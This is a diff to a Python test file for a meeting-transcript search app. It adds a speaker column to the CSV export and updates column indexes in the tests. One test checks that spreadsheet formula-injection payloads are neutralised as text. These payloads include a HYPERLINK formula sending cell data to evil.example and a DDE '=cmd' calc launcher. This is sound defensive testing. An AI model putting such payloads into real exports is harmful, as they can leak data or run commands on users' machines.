@@ -128,9 +128,9 @@ def test_csv_export_content(ctx, world, people):
 
     hits = ctx.recordings.search_transcripts(people.op1, "budget")
     rows = list(csv.reader(io.StringIO(export_csv(results_table(hits)).decode("utf-8-sig"))))
-    assert rows[0] == ["Meeting", "Date", "Temps", "Langue", "Texte"]
+    assert rows[0] == ["Meeting", "Date", "Temps", "Langue", "Intervenant", "Texte"]
     assert sorted(r[0] for r in rows[1:]) == ["Revue A", "Revue B"]
-    assert all(r[2] == "00:00:02" and r[3] == "fr" and r[4] == "<b>Le budget</b> est validé" for r in rows[1:])
+    assert all(r[2] == "00:00:02" and r[3] == "fr" and r[5] == "<b>Le budget</b> est validé" for r in rows[1:])
 
 
 def test_csv_export_keeps_formulas_as_text(ctx, world, people):
@@ -148,7 +148,7 @@ def test_csv_export_keeps_formulas_as_text(ctx, world, people):
                dataclasses.replace(hit, meeting_title="-2+3", text="\tTAB")]
     rows = list(csv.reader(io.StringIO(export_csv(results_table(hostile)).decode("utf-8-sig"))))[1:]
     assert [r[0] for r in rows] == ['\'=HYPERLINK("https://evil.example/?"&A1;"clic")', "'+SUM(1;2)", "'-2+3"]
-    assert [r[4] for r in rows] == ["'=cmd|' /C calc'!A0", "'@SUM(A1)", "'\tTAB"]
+    assert [r[5] for r in rows] == ["'=cmd|' /C calc'!A0", "'@SUM(A1)", "'\tTAB"]
 
 
 def test_another_clients_recording_id_in_the_url_plays_nothing_of_his(world, people):
